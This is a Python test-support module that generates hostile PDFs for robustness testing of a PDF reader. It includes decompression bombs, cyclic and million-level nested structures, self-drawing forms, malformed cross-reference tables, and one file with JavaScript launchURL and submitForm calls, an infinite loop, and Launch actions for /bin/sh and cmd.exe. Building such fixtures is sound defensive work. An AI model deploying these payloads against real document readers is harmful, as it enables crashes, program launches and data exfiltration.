"""PDFs that attack their readers."""

import zlib
from collections.abc import Callable, Mapping

from tests.support.documents.hostile.packing import MIB, repeated, wrapped

Maker = Callable[[str], bytes]
"""Makes a file; it gets the URL of a server that nobody may call."""

HELLO = b"BT /F1 12 Tf 72 700 Td (Hello) Tj ET"
FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
FORM = "/Type /XObject /Subtype /Form /BBox [0 0 612 792] "
PAGE = (
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
    " /Resources << /Font << /F1 5 0 R >> >> {} >>"
)


def stream(data: bytes, members: str = "") -> bytes:
    head = f"<< /Length {len(data)} {members} >>\nstream\n".encode()
    return head + data + b"\nendstream"


def pdf(objects: Mapping[int, bytes | str], trailer: str = "") -> bytes:
    """Return a PDF with a table of its objects; 1 is the catalog."""
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, body in objects.items():
        places[number] = len(out)
        data = body.encode() if isinstance(body, str) else body
        out += f"{number} 0 obj\n".encode() + data + b"\nendobj\n"
    begin, size = len(out), max(objects) + 1
    rows = [
        f"{places[n]:010} 00000 n \n" if n in places else "0000000000 65535 f \n"
        for n in range(size)
    ]
    out += f"xref\n0 {size}\n{''.join(rows)}".encode()
    out += f"trailer << /Size {size} /Root 1 0 R {trailer} >>\n".encode()
    return bytes(out) + f"startxref\n{begin}\n%%EOF\n".encode()


def one_page(
    content: bytes = HELLO,
    *,
    members: str = "",
    catalog: str = "",
    page: str = "",
    trailer: str = "",
    font: str | bytes = FONT,
    more: Mapping[int, bytes | str] | None = None,
    pages: str = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
) -> bytes:
    """Return a PDF of one page; more objects have numbers from 6 on."""
    objects: dict[int, bytes | str] = {
        1: f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        2: pages,
        3: PAGE.format(page),
        4: stream(content, members),
        5: font,
    }
    return pdf(objects | dict(more or {}), trailer)


def inflating(unit: bytes, times: int) -> bytes:
    return wrapped(repeated(unit, times), 1)


def many_pages(count: int) -> bytes:
    kids = " ".join(f"{n} 0 R" for n in range(6, count + 6))
    pages = f"<< /Type /Pages /Kids [{kids}] /Count {count} >>"
    return one_page(pages=pages, more=dict.fromkeys(range(6, count + 6), PAGE.format("")))


def deep_tree(levels: int) -> bytes:
    more = {
        n: f"<< /Type /Pages /Parent {n - 1} 0 R /Kids [{n + 1} 0 R] /Count 1 >>"
        for n in range(6, levels + 6)
    }
    more[levels + 6] = PAGE.format("")
    return one_page(pages="<< /Type /Pages /Kids [6 0 R] /Count 1 >>", more=more)


def wide_tree(levels: int) -> bytes:
    """Return a PDF whose page tree is ten times ten times … the same page."""
    more = {
        n: f"<< /Type /Pages /Kids [{f'{n + 1} 0 R ' * 10}] /Count {10 ** (levels + 6 - n)} >>"
        for n in range(6, levels + 6)
    }
    more[levels + 6] = PAGE.format("")
    pages = f"<< /Type /Pages /Kids [6 0 R] /Count {10**levels} >>"
    return one_page(pages=pages, more=more)


def object_stream(count: int, data: bytes, members: str = "/Filter /FlateDecode") -> bytes:
    body = stream(data, f"/Type /ObjStm /N {count} /First 1000 {members}")
    return one_page(catalog="/Names 7 0 R", more={6: body})


def table_loop() -> bytes:
    data = one_page()
    begin = data.rindex(b"xref\n0")
    return data.replace(b"/Root 1 0 R", f"/Root 1 0 R /Prev {begin}".encode())


def stream_table_loop() -> bytes:
    begin = 0
    for _ in range(2):
        table = stream(
            bytes(7) * 6,
            f"/Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Prev {begin} /Index [0 2147483647]",
        )
        objects = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        begin = len(objects)
    return objects + b"6 0 obj\n" + table + f"\nendobj\nstartxref\n{begin}\n%%EOF".encode()


def forms_in_forms(count: int) -> bytes:
    """Return a page whose form draws ten forms, each of which draws ten forms …."""
    more: dict[int, bytes | str] = {}
    for n in range(6, count + 6):
        resources = f"/Resources << /XObject << /X {n + 1} 0 R >> /Font << /F1 5 0 R >> >>"
        members = f"/Type /XObject /Subtype /Form /BBox [0 0 612 792] {resources}"
        more[n] = stream(b"/X Do " * 10, members)
    last = (
        "/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >>"
    )
    more[count + 6] = stream(HELLO, last)
    return _with_form(more)


def _with_form(more: Mapping[int, bytes | str]) -> bytes:
    resources = "/Resources << /XObject << /X 6 0 R >> /Font << /F1 5 0 R >> >>"
    return one_page(b"/X Do", page=resources, more=more)


def own_form() -> bytes:
    members = (
        "/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /X 6 0 R >> >>"
    )
    return _with_form({6: stream(b"/X Do " * 10, members)})


def own_pattern() -> bytes:
    members = (
        "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001"
        " /YStep 0.001 /Resources << /Pattern << /P 6 0 R >> >>"
    )
    content = b"/Pattern cs /P scn 0 0 612 792 re f"
    page = "/Resources << /Pattern << /P 6 0 R >> >>"
    return one_page(content, page=page, more={6: stream(content, members)})


def character_map(ranges: str) -> bytes:
    table = (
        "/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def"
        " 1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange"
        f" 1 beginbfrange {ranges} endbfrange endcmap end end"
    )
    font = (
        "<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /ToUnicode 6 0 R"
        " /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X"
        " /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>] >>"
    )
    content = b"BT /F1 12 Tf 72 700 Td <00010002> Tj ET"
    return one_page(content, font=font, more={6: stream(table.encode())})


def picture(width: int, height: int, data: bytes, filters: str = "/FlateDecode") -> bytes:
    members = (
        f"/Type /XObject /Subtype /Image /Width {width} /Height {height} /BitsPerComponent 8"
        f" /ColorSpace /DeviceRGB /Filter {filters}"
    )
    page = "/Resources << /XObject << /X 6 0 R >> >>"
    return one_page(b"600 0 0 600 0 0 cm /X Do", page=page, more={6: stream(data, members)})


def actions(url: str) -> bytes:
    """Return a PDF that would run JavaScript and programs, and open pages elsewhere."""
    script = f"app.launchURL('{url}/script'); this.submitForm('{url}/form'); while (true) {{}}"
    catalog = (
        "/OpenAction 6 0 R /AA << /WC 7 0 R >> /AcroForm << /XFA 9 0 R /Fields [] >>"
        f" /URI << /Base ({url}/) >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >>"
    )
    page = "/AA << /O 8 0 R >> /Annots [<< /Type /Annot /Subtype /Link /A 8 0 R"
    page += " /Rect [0 0 612 792] >>]"
    form = f'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><a href="{url}/form"/></xdp:xdp>'
    more: dict[int, bytes | str] = {
        6: f"<< /S /JavaScript /JS ({script}) >>",
        7: "<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        8: f"<< /S /URI /URI ({url}/link) >>",
        9: stream(form.encode()),
    }
    return one_page(catalog=catalog, page=page, more=more)


def remote_parts(url: str) -> bytes:
    """Return a PDF whose content, picture and other document are files elsewhere."""
    where = f"/F << /Type /Filespec /FS /URL /F ({url}/content) >>"
    catalog = f"/OpenAction << /S /GoToR /F << /FS /URL /F ({url}/other.pdf) >> /D [0 /Fit] >>"
    return one_page(members=where, catalog=catalog)


def encrypted() -> bytes:
    key = "00" * 32
    trailer = (
        f"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <{key}> /U <{key}> >>"
        f" /ID [<{key}> <{key}>]"
    )
    return one_page(trailer=trailer)


def half(maker: Maker) -> Maker:
    """Return a maker of the first half of a file."""

    def make(url: str) -> bytes:
        data = maker(url)
        return data[: len(data) // 2]

    return make


PDFS: dict[str, Maker] = {
    "a page tree that leads back": lambda url: one_page(
        pages="<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 3 >>"
    ),
    "a page tree of a hundred thousand levels": lambda url: deep_tree(100_000),
    "a page tree that has a page a hundred million times": lambda url: wide_tree(8),
    "two thousand million pages by its count": lambda url: one_page(
        pages="<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>"
    ),
    "fewer than no pages": lambda url: one_page(
        pages="<< /Type /Pages /Kids [3 0 R] /Count -2147483648 >>"
    ),
    "five thousand pages": lambda url: many_pages(5_000),
    "content of a gigabyte": lambda url: one_page(
        inflating(bytes(MIB), 1_000), members="/Filter /FlateDecode"
    ),
    "text of fifty megabytes": lambda url: one_page(
        inflating(b"BT /F1 12 Tf 72 700 Td (Hello Hello) Tj ET\n" * 24_000, 50),
        members="/Filter /FlateDecode",
    ),
    "filters over filters": lambda url: one_page(
        zlib.compress(zlib.compress(inflating(bytes(MIB), 1_000))),
        members=f"/Filter [{'/FlateDecode ' * 3}]",
    ),
    "ten thousand filters": lambda url: one_page(members=f"/Filter [{'/FlateDecode ' * 10_000}]"),
    "runs of a gigabyte": lambda url: one_page(
        inflating(b"\x81\x00" * (MIB // 2), 16), members="/Filter [/FlateDecode /RunLengthDecode]"
    ),
    "an object stream of a gigabyte": lambda url: object_stream(
        1_000, inflating(b"0 " * (MIB // 2), 1_000)
    ),
    "an object stream of two thousand million objects": lambda url: object_stream(
        2_147_483_647, zlib.compress(b"0 0 " * 100)
    ),
    "an object stream that extends itself": lambda url: object_stream(
        1, zlib.compress(b"6 0 "), "/Filter /FlateDecode /Extends 6 0 R"
    ),
    "a table that leads back": lambda url: table_loop(),
    "a stream of a table that leads back": lambda url: stream_table_loop(),
    "no table": lambda url: one_page().split(b"xref\n0")[0],
    "a million lists in each other": lambda url: one_page(catalog=f"/X {'[' * 10**6}"),
    "a million dictionaries in each other": lambda url: one_page(catalog="/X " + "<</A " * 10**6),
    "a million saved states": lambda url: one_page(b"q " * 10**6 + HELLO),
    "a million lists in the content": lambda url: one_page(b"[" * 10**6 + HELLO),
    "forms in forms": lambda url: forms_in_forms(12),
    "a form that draws itself": lambda url: own_form(),
    "a pattern of itself": lambda url: own_pattern(),
    "a map of all characters": lambda url: character_map("<00000000> <FFFFFFFF> <0000>"),
    "halves of characters": lambda url: character_map("<00010002> <00010002> <D800>"),
    "a map to NUL": lambda url: character_map("<00010002> <00010002> <0000>"),
    "a page of a thousand kilometres": lambda url: one_page(
        page="/MediaBox [0 0 2147483647 2147483647] /CropBox [-1e38 -1e38 1e38 1e38]"
    ),
    "a page without an area": lambda url: one_page(page="/MediaBox [0 0 0 0] /UserUnit 1e30"),
    "a picture of ten gigapixels": lambda url: picture(
        100_000, 100_000, inflating(bytes(MIB), 1_000)
    ),
    "a picture that is none": lambda url: picture(2**31 - 1, 2**31 - 1, b"x", "/JPXDecode"),
    "scripts, programs and links": actions,
    "parts elsewhere": remote_parts,
    "a password": lambda url: encrypted(),
    "a length that is negative": lambda url: one_page(members="/Length -1"),
    "a length of its own": lambda url: one_page(members="/Length 4 0 R"),
    "half of a file": half(lambda url: many_pages(100)),
    "a head alone": lambda url: b"%PDF-1.7\n",
    "zeros after the head": lambda url: b"%PDF-1.7\n" + bytes(20 * MIB),
}
